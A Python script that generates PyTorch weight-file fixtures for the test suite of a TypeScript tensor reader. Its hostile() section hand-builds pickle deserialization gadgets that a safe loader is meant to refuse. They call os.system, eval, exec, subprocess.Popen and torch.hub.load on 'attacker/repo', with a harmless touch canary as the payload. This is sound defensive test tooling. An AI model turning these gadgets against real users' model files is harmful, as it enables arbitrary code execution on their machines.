#!/usr/bin/python3
"""Fixtures of PyTorch's own weight files (torch.save) for wasmformer's reader (src/io/torch.ts).

torch.save writes a zip archive: <archive>/data.pkl (a pickle, protocol 2, that rebuilds each
tensor from a storage), <archive>/data/<key> (each storage's raw bytes), <archive>/version and,
since torch 2.0, <archive>/byteorder. torch 1.13 and torch 2.x write different records and
different rebuild calls (_rebuild_parameter_with_state, _rebuild_tensor_v3 for uint16 and
float8), so the script runs once with each, and names the files after the torch that wrote them:

  /usr/bin/python3 tools/make_torch_fixtures.py          # Debian's torch 1.13: *-1.13.*
  /work/.venv/bin/python tools/make_torch_fixtures.py    # torch 2.13: *-2.13.*, and the
                                                         # files without a version (written
                                                         # by the torch 2 run only)

Into test/io/fixtures/torch/ (--out changes it):
  model-V.pt          test/fixtures/source_padding loaded into seq2seq.Seq2SeqTransformer, saved
                      with torch.save(model.state_dict(), path) as the tutorial does: every
                      tensor must equal the safetensors one byte for byte
  kinds-V.pt, .json   every dtype a state dict holds (F32 F16 BF16 F64 I64 I32 I16 I8 U8 BOOL,
                      and with torch 2 U16 U32 U64 F8_E4M3 F8_E5M2), a slice with a storage
                      offset, tied weights (one storage under several names, also viewed with
                      another shape), nn.Parameter objects saved directly (with torch 2 also one
                      with a Python attribute: _rebuild_parameter_with_state), zero-dim and empty
                      tensors, int64 buffers (BatchNorm's num_batches_tracked). The JSON gives
                      each name's dtype, shape and contiguous little-endian bytes (hex)
  legacy-V.pt         _use_new_zipfile_serialization=False: the pre-1.6 format, refused
  noncontiguous-V.pt  a transposed tensor: strides that are not row-major, refused
  checkpoint-V.pt     the tutorial's "general checkpoint" ({epoch, model_state_dict,
                      optimizer_state_dict, loss}): not a state dict, refused naming the key
  module-V.pt         torch.save(model): a whole nn.Module, refused naming its class
  protocol4-2.13.pt   torch.save(..., pickle_protocol=4): FRAME, STACK_GLOBAL, MEMOIZE
  neg-view-2.13.pt    a tensor whose lazy negative bit is set (its bytes are not its values)
  bigendian.pt        kinds-2.13.pt with byteorder "big", as a big-endian host writes it
  deflated.pt         kinds-2.13.pt re-zipped with deflate, as `zip -r` would
  hostile/*.pt        pickles that would run code if torch.load(weights_only=False) read them,
                      in torch's archive layout: see HOSTILE

Files are deterministic: a rerun with the same torch writes the same bytes, but for legacy-V.pt,
whose storage keys are memory addresses.
"""

import argparse
import io
import json
import os
import pickle
import struct
import subprocess
import sys
import zipfile
from collections import OrderedDict
from pathlib import Path

import torch
from torch import nn

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO / 'tools'))
from seq2seq import Seq2SeqTransformer, read_safetensors  # noqa: E402

VERSION = '.'.join(torch.__version__.split('.')[:2])
TORCH2 = int(VERSION.split('.')[0]) >= 2
SOURCE = REPO / 'test' / 'fixtures' / 'source_padding'
# What a hostile pickle would run: if this file ever appears, something executed it.
PWNED = '/tmp/wasmformer-pwned'


def model_state_dict():
    """source_padding's weights in the tutorial's model: the state dict a user saves."""
    config = json.loads((SOURCE / 'config.json').read_text())
    tensors = {k: torch.from_numpy(v) for k, v in read_safetensors(SOURCE / 'model.safetensors').items()}
    model = Seq2SeqTransformer(config, positions=tensors['positional_encoding.pos_embedding'])
    model.load_state_dict(tensors, strict=True)
    return model.state_dict()


def kinds():
    """One tensor of each kind the reader must handle, by name."""
    torch.manual_seed(0)
    base = torch.randn(4, 5)
    tied = torch.randn(3, 2)
    param = nn.Parameter(torch.randn(3))
    bn = nn.BatchNorm1d(2)
    bn.train()(torch.randn(4, 2))  # num_batches_tracked = 1, running stats updated
    sd = OrderedDict()
    sd['f32'] = base
    sd['f16'] = torch.randn(2, 3).half()
    sd['bf16'] = torch.randn(3, 2).bfloat16()
    sd['f64'] = torch.randn(2).double()
    sd['i64'] = torch.arange(-3, 3)
    sd['i32'] = torch.tensor([-(2 ** 31), 2 ** 31 - 1], dtype=torch.int32)
    sd['i16'] = torch.tensor([-300, 300], dtype=torch.int16)
    sd['i8'] = torch.tensor([-128, 127], dtype=torch.int8)
    sd['u8'] = torch.tensor([0, 255, 7], dtype=torch.uint8)
    sd['bool'] = torch.tensor([True, False, True])
    sd['offset.row'] = base[2]           # storage offset 10, still contiguous
    sd['offset.rows'] = base[1:3]        # storage offset 5, [2, 5]
    sd['tied.a'] = tied
    sd['tied.b'] = tied                  # the same tensor object: memoized
    sd['tied.flat'] = tied.view(6)       # the same storage, another shape
    sd['param'] = param                  # nn.Parameter: _rebuild_parameter
    sd['scalar'] = torch.tensor(2.5)
    sd['empty'] = torch.zeros(0, 4)
    sd['empty.i64'] = torch.zeros(0, dtype=torch.int64)
    for k, v in bn.state_dict().items():
        sd[f'bn.{k}'] = v                # num_batches_tracked: a zero-dim int64 buffer
    if TORCH2:
        p = nn.Parameter(torch.randn(2))
        p.note = 'kept'                  # a Python attribute: _rebuild_parameter_with_state
        sd['param.with_state'] = p
        sd['u16'] = torch.tensor([0, 65535]).to(torch.uint16)
        sd['u32'] = torch.tensor([0, 2 ** 32 - 1]).to(torch.uint32)
        sd['u64'] = torch.tensor([0, 2 ** 63 - 1]).to(torch.uint64)
        sd['f8_e4m3'] = torch.tensor([0.5, -448.0]).to(torch.float8_e4m3fn)
        sd['f8_e5m2'] = torch.tensor([0.25, -57344.0]).to(torch.float8_e5m2)
    return sd


DTYPES = {torch.float32: 'F32', torch.float16: 'F16', torch.bfloat16: 'BF16', torch.float64: 'F64',
          torch.int64: 'I64', torch.int32: 'I32', torch.int16: 'I16', torch.int8: 'I8',
          torch.uint8: 'U8', torch.bool: 'BOOL'}
if TORCH2:
    DTYPES.update({torch.uint16: 'U16', torch.uint32: 'U32', torch.uint64: 'U64',
                   torch.float8_e4m3fn: 'F8_E4M3', torch.float8_e5m2: 'F8_E5M2'})


def raw_bytes(t):
    """A tensor's values, row-major, as the little-endian bytes a reader must find."""
    flat = t.detach().contiguous().reshape(-1)
    return flat.view(torch.uint8).numpy().tobytes() if flat.numel() else b''


def describe(sd):
    return {k: {'dtype': DTYPES[v.dtype], 'shape': list(v.shape), 'hex': raw_bytes(v).hex()}
            for k, v in sd.items()}


def general_checkpoint():
    """The PyTorch tutorial's "Saving & Loading a General Checkpoint for Inference and/or
    Resuming Training": a dict around the state dict."""
    torch.manual_seed(0)
    model = nn.Linear(3, 2)
    optimizer = torch.optim.Adam(model.parameters())
    model(torch.randn(4, 3)).sum().backward()
    optimizer.step()
    return {'epoch': 5, 'model_state_dict': model.state_dict(),
            'optimizer_state_dict': optimizer.state_dict(), 'loss': 0.25}


def torch_zip(prefix, records):
    """records {name: bytes} as a zip in torch's layout (<prefix>/<name>, stored), with fixed
    dates so the bytes are deterministic."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_STORED) as z:
        for name, data in records.items():
            z.writestr(zipfile.ZipInfo(f'{prefix}/{name}', date_time=(1980, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


def rezipped(data, edit=None, compression=zipfile.ZIP_STORED):
    """A torch archive's records in a new zip: edit(name, bytes) -> bytes may change them."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', compression) as z:
        for info in src.infolist():
            body = src.read(info)
            z.writestr(zipfile.ZipInfo(info.filename, date_time=(1980, 1, 1, 0, 0, 0)),
                       edit(info.filename, body) if edit else body, compress_type=compression)
    return out.getvalue()


# ---------------------------------------------------------------------------------------------
# Hostile pickles: each would run PWNED's `touch` (or worse) under pickle.load or
# torch.load(weights_only=False). Hand-written opcodes, protocol 2 as torch writes.
# ---------------------------------------------------------------------------------------------

def op_global(module, name):
    return b'c' + module.encode() + b'\n' + name.encode() + b'\n'


def op_str(s):
    b = s.encode()
    return b'X' + struct.pack('<I', len(b)) + b


def call(module, name, *args):
    """PROTO 2; module.name(*args) with string arguments; STOP."""
    return b'\x80\x02' + op_global(module, name) + b'(' + b''.join(map(op_str, args)) + b'tR.'


class SystemGadget:
    """What an attacker pickles: unpickling calls os.system (posix.system on Linux)."""

    def __reduce__(self):
        return os.system, (f'touch {PWNED}',)


class PopenGadget:
    def __reduce__(self):
        return subprocess.Popen, (['touch', PWNED],)


def hostile():
    """{file name: archive bytes}: torch's layout around a pickle that must be refused."""
    state = b'\x80\x02}q\x00X\x06\x00\x00\x00weightq\x01'  # {'weight': <the call>} begins
    files = {
        # torch.save itself writing a state dict with a gadget in it: GLOBAL 'posix system'.
        'os-system.pt': None,
        # The same by hand, spelt as a reader of the file would expect: os.system.
        'os-system-global.pt': call('os', 'system', f'touch {PWNED}'),
        'builtins-eval.pt': call('builtins', 'eval', f"__import__('os').system('touch {PWNED}')"),
        'builtins-getattr.pt': call('builtins', 'getattr', 'os', 'system'),
        # Python 2's name of the same module, as protocol 2 pickles from Python 2 spell it.
        'builtin-exec-py2.pt': call('__builtin__', 'exec', f"import os; os.system('touch {PWNED}')"),
        # Protocol 4: STACK_GLOBAL with SHORT_BINUNICODE names, FRAME, MEMOIZE.
        'subprocess-popen.pt': pickle.dumps(PopenGadget(), protocol=4),
        # Inside a state dict, after a plain tensor key: the reader must refuse mid-way.
        'nested-eval.pt': state + op_global('builtins', 'eval') + b'(' + op_str('1') + b'tRs.',
        # A name a JavaScript reader might resolve by walking globalThis.
        'js-process-exit.pt': call('globalThis.process', 'exit', '1'),
        # A torch function outside the whitelist: loads (and runs) another file.
        'torch-hub-load.pt': call('torch.hub', 'load', 'attacker/repo', 'model'),
    }
    out = {}
    for name, pkl in files.items():
        if pkl is None:
            buf = io.BytesIO()
            torch.save({'weight': torch.ones(2), 'gadget': SystemGadget()}, buf)
            out[name] = buf.getvalue()
        else:
            out[name] = torch_zip('archive', {'data.pkl': pkl, 'byteorder': b'little', 'version': b'3\n'})
    return out


def save(obj, path, **kw):
    """torch.save to path; the archive's prefix is the file's stem, as torch names it."""
    path.parent.mkdir(parents=True, exist_ok=True)
    torch.save(obj, path, **kw)
    return path.read_bytes()


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument('--out', type=Path, default=REPO / 'test' / 'io' / 'fixtures' / 'torch')
    out = ap.parse_args().out
    torch.set_num_threads(1)
    v = VERSION
    save(model_state_dict(), out / f'model-{v}.pt')
    sd = kinds()
    kinds_bytes = save(sd, out / f'kinds-{v}.pt')
    rows = [f' {json.dumps(k)}: {json.dumps(e)}' for k, e in describe(sd).items()]  # one tensor a line
    (out / f'kinds-{v}.json').write_text('{\n' + ',\n'.join(rows) + '\n}\n')
    save({'weight': torch.ones(2, 2)}, out / f'legacy-{v}.pt', _use_new_zipfile_serialization=False)
    save({'ok': torch.ones(3), 'transposed': torch.arange(6.0).reshape(2, 3).t()}, out / f'noncontiguous-{v}.pt')
    save(general_checkpoint(), out / f'checkpoint-{v}.pt')
    torch.manual_seed(0)
    save(nn.Linear(2, 2), out / f'module-{v}.pt')
    if TORCH2:
        save(OrderedDict([('a', torch.ones(2)), ('b', torch.arange(3))]), out / f'protocol4-{v}.pt', pickle_protocol=4)
        save({'neg': torch._neg_view(torch.ones(2))}, out / f'neg-view-{v}.pt')
        big = rezipped(kinds_bytes, lambda name, body: b'big' if name.endswith('/byteorder') else body)
        (out / 'bigendian.pt').write_bytes(big)
        (out / 'deflated.pt').write_bytes(rezipped(kinds_bytes, None, zipfile.ZIP_DEFLATED))
        (out / 'hostile').mkdir(exist_ok=True)
        for name, data in hostile().items():
            (out / 'hostile' / name).write_bytes(data)
    total = sum(f.stat().st_size for f in out.rglob('*') if f.is_file())
    print(f'torch {torch.__version__}: wrote {out} ({total} bytes in all)')


if __name__ == '__main__':
    main()
